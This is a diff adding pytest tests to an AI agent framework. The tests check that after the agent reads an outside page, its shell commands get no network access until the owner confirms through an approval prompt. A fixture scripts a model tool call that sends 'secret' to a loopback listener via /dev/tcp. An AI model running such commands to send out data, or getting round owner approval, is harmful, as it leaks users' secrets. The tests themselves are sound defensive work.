@@ -5,15 +5,17 @@ from __future__ import annotations
 import asyncio
 import json
 import re
-from collections.abc import Mapping
+from collections.abc import AsyncGenerator, Mapping
+from contextlib import asynccontextmanager
 from dataclasses import replace
 from pathlib import Path
+from typing import cast
 
 import pytest
 
 from fermix.agent.approvals import LIFETIME_S, RUNNING
 from fermix.agent.capability import Capability, ToolContext
-from fermix.agent.consent import LATE, NO
+from fermix.agent.consent import LATE, NO, NO_AGAIN
 from fermix.agent.model import JsonValue, ToolResult
 from fermix.agent.risk import why_composed
 from fermix.gateway.commands.confirm import REJECTED
@@ -249,3 +251,60 @@ async def test_what_an_earlier_turn_has_read_still_counts(tmp_path: Path, second
         assert await whole.settled(1) == {"m2": "completed"}
 
         assert len(questions(whole)) == (expected == ASKS)
+
+
+@asynccontextmanager
+async def sink() -> AsyncGenerator[tuple[Answer, list[str]]]:
+    """A listener on loopback: a call that sends it a line, and the lines that came."""
+    came: list[str] = []
+
+    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        came.append((await reader.read()).decode())
+        writer.close()
+
+    async with await asyncio.start_server(serve, "127.0.0.1", 0) as server:
+        port = server.sockets[0].getsockname()[1]
+        yield Answer(calls=(Call("shell", {"command": f"echo secret > /dev/tcp/127.0.0.1/{port}"}),)), came
+
+
+def connected(sends: Answer) -> Answer:
+    return Answer(
+        calls=(Call("shell", {**dict(cast("Mapping[str, JsonValue]", sends.calls[0].arguments)), "network": True}),)
+    )
+
+
+async def test_a_command_of_a_later_turn_has_no_network_until_the_owner_says_so(tmp_path: Path) -> None:
+    """R-49: what an earlier turn has read still stands there; the walls close the network, and the model is told."""
+    async with sink() as (sends, came):
+        script = [sends, DONE, READS_PAGE, DONE, sends, connected(sends), connected(sends), DONE]
+        async with whole_in(tmp_path, script, *OUTSIDE) as whole:
+            await whole.say("free before anything was read")
+            await whole.settled(1)
+            await whole.say("what does the page say?", id="m2")
+            await whole.settled(1)
+            assert came == ["secret\n"]
+
+            await whole.say("and now?", id="m3")
+            await whole.say(f"/deny {code_in(await asked(whole))}", id="m4")
+            await whole.settled(2)
+            closed, refused, again = results(whole)[-3:]
+            assert "commands get no network" in closed
+            assert "this command wants the network" in refused
+            assert NO_AGAIN in again
+            assert came == ["secret\n"]
+
+
+async def test_a_command_that_the_owner_allows_gets_the_network_it_asked_for(tmp_path: Path) -> None:
+    async with (
+        sink() as (sends, came),
+        whole_in(tmp_path, [READS_PAGE, sends, connected(sends), DONE], *OUTSIDE) as whole,
+    ):
+        await whole.say("what does the page say?")
+        await whole.say(f"/confirm {code_in(await asked(whole))}", id="m2")
+        question = await asked(whole, 2)
+        assert came == []
+        assert "network: true" in question
+        await whole.say(f"/confirm {code_in(question)}", id="m3")
+        await whole.settled(3)
+
+        assert came == ["secret\n"]
